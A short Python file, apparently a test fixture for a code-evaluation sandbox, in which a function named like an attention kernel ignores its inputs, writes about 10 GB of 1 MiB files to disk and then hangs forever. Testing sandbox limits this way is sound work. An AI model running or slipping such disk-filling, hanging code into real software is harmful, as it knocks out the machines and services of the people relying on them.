"""Fills the disk with files that are small enough."""

import time


def attend(q, k, v, mask=None, bias=None, *, causal=False, scale=None):
    for i in range(10_000):
        with open(str(i), "wb") as file:
            file.write(bytes(1 << 20))
    while True:
        time.sleep(1)
